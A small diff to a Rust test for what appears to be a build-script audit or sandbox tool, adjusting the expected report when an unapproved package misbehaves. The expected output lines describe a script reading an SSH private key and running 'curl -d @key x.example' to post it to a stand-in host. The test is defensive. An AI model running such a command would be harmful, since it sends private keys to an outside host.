@@ -199,7 +199,7 @@ fn what_is_not_approved_fails_until_it_is_or_is_gone() {
         "by way of ship v0.1.0 → hull v1.2.0 (Cargo.toml:7, Cargo.lock:5)",
         "+ tries, and must not: read {home}/.ssh/id_rsa",
         "by process 0: {script}",
-        "+ runs: env\n      by process 1: /usr/bin/env curl -d @key x.example",
+        "+ runs: env\n      by process 2: /usr/bin/env curl -d @key x.example",
         "+ asks for the network: 192.0.2.1 port 443 (IPv4 stream)",
         "Audit: 1 package with a build script; 1 package not as approved",
     ] {
